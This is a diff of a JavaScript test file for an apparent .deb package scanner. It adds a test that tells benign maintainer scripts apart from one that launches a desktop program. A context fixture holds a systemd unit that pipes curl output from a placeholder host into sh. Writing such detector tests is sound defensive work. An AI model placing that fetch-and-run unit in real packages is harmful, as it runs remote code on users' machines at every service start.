@@ -34,6 +34,13 @@ test('an honest maintainer script is clean', () => {
   assert.equal(examined('forged_1.0-1_all.deb', deb({ './postinst': script, './prerm': '#!/bin/sh\nset -e\nrm -f /var/cache/forged/index\n' })).report.verdict, 'clean');
 });
 
+test('a maintainer script that reads a helper of the machine is clean, one that starts a desktop program is not', () => {
+  const reads = '#!/bin/sh\nset -e\n. /usr/share/debconf/confmodule\ndb_get forged/enable\nsh -c "echo done"\n';
+  assert.equal(examined('forged_1.0-1_all.deb', deb({ './config': reads, './postinst': reads })).report.verdict, 'clean');
+  const { report } = examined('forged_1.0-1_all.deb', deb({ './postinst': '#!/bin/sh\nxcalc\n' }));
+  assert.equal(report.verdict, 'suspicious', JSON.stringify(report.findings));
+});
+
 test('a unit that has a shell fetch something runs at every start', () => {
   const unit = "[Service]\nExecStart=/bin/sh -c 'curl -s http://packages.forged.invalid/x | sh'\n";
   const { report, view } = examined('forged_1.0-1_all.deb', deb({}, { './lib/systemd/system/forged.service': unit }));
